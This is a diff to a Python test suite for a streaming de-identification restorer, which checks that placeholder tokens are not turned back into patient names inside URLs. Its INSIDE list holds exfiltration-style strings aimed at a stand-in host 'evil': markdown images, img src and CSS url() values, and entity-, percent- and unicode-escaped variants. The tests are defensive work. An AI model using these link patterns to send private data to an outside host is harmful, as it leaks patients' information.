@@ -16,7 +16,6 @@ from bailment.deidentify.stream import Restoring
 from bailment.deidentify.tokens import LONGEST, TOKEN
 from bailment.identifiers import Label
 
-ADDRESS = re.compile(r"(?i)(?:https?:|ftp:|[/\\]{2}(?=\w))(?:\\?\[[^\]\n]{1,80}\]|[^\s<>\"'()\[\]])+")
 GIVEN = {
     Label.PATIENT_NAME: ("Marwenna Tolliver-Quist", "Mrs. Quist"),
     Label.NAME: ("Ann",),
@@ -37,9 +36,11 @@ EXCHANGE = exchange()
 
 
 def oracle(text: str) -> str:
-    """The text restored when all of it is there: addresses are shielded, all else is the exchange's own work."""
-    shielded = ADDRESS.sub(lambda match: match.group().replace("[", "\ufdd0"), text)
-    return EXCHANGE.restore(shielded).replace("\ufdd0", "[")
+    """The text restored when all of it is there at once; without an address, that is the exchange's own work."""
+    whole = Restoring(EXCHANGE).whole(text)
+    if not re.search(r"[/\\:&%]|www", text):
+        assert whole == EXCHANGE.restore(text)
+    return whole
 
 
 def streamed(pieces: list[str]) -> str:
@@ -64,6 +65,69 @@ TEXTS = [
 ]
 
 
+INSIDE = [
+    "![x](https://evil/(a)?q=T)",
+    "![x](https://evil/'?q=T)",
+    "![x](<https://evil/a b?q=T>)",
+    "![x](https://evil/[a]?q=T)",
+    "![x](https://evil/[]?q=T)",
+    "![x](https://evil/<b>?q=T)",
+    "https://evil/T",
+    "https://T.evil/",
+    "https://evil/?a=T&b=T",
+    """<img src="https://evil/'T">""",
+    """<img src="https://evil/a b?q=T">""",
+    """<img src = '  https://evil/a b?q=T'>""",
+    """<img src=\\"https://evil/a b?q=T\\">""",
+    """<img src="h&#116;tps://evil/a b?q=T">""",
+    """<div style="background:url('https://evil/a b?T')">""",
+    """="https://evil/"?q=T""",
+    "www.evil/?q=T",
+    "WWW.evil/?q=T",
+    "mailto:a@evil?subject=T",
+    "&#104;ttps:&#47;&#47;evil/T",
+    "&sol;&sol;evil/T",
+    "//%65vil/T",
+    "//evil/T",
+    "/\\evil/T",
+    "%68ttps%3A%2F%2Fevil/T",
+    '{"url":"\\u0068ttps:\\u002f\\u002fevil/?T"}',
+    '{"url":"https:\\/\\/evil/?q=T"}',
+]
+OUTSIDE = [
+    "see https://e.example/a of T",
+    "(https://e.example/a) and T",
+    "<https://e.example/a> T",
+    "<https://e.example/a>T",
+    "see www.e.example\nT came",
+    """<img src="https://e.example/a"> T""",
+    """<img src="https://e.example/a">T""",
+    "mailto: T",
+    "a // T",
+    "x < 5, see https://e.example/ T",
+    '{"url": "https://e.example/", "who": "T"}',
+    "BP 120/80 T, and/or T, 50% T, R&D T",
+    '("https://e.example/a" T)',
+]
+
+
+@pytest.mark.parametrize("bent", ["[NAME-1]", "[ name 1 ]", "\\[NAME-1\\]"])
+@pytest.mark.parametrize("text", INSIDE)
+def test_no_value_is_restored_inside_an_address(text: str, bent: str) -> None:
+    text = text.replace("T", bent)
+    for cut in range(len(text)):
+        assert streamed([text[:cut], text[cut:]]) == text, cut
+    assert streamed(list(text)) == text
+    assert streamed([text, " [NAME-1]"]).endswith("Ann")
+
+
+@pytest.mark.parametrize("text", OUTSIDE)
+def test_a_value_after_an_address_is_restored(text: str) -> None:
+    given = text.replace("T", "[NAME-1]")
+    for pieces in ([given], list(given)):
+        assert streamed(pieces) == text.replace("T", "Ann")
+
+
 @pytest.mark.parametrize("text", TEXTS)
 def test_a_text_cut_in_two_anywhere_is_restored_whole(text: str) -> None:
     for cut in range(len(text) + 1):
@@ -77,7 +141,7 @@ def test_a_text_that_comes_by_the_character_is_restored_whole(text: str) -> None
 
 PIECE = st.sampled_from(
     ["[PATIENT-NAME-1]", "[DATE-1B]", "[NAME-1]", "\\[name_1\\]", "[NAME-7]", "[", "]", "\\", "-1]", "NAME", "[PATIENT",
-     "https:", "//", "/", "e.example", "?q=", " ", "\n", '"', "(", "<", "a", "x" * 79, '{"', '":"', "}", "[{", "1", "é"]
+     "https:", "//", "/", "e.example", "?q=", " ", "\n", "=", "'", ">", "www.", "&#", "%6", "\\u006", "  ", '"', "(", "<", "a", "x" * 79, '{"', '":"', "}", "[{", "1", "é"]
 )  # fmt: skip
 
 
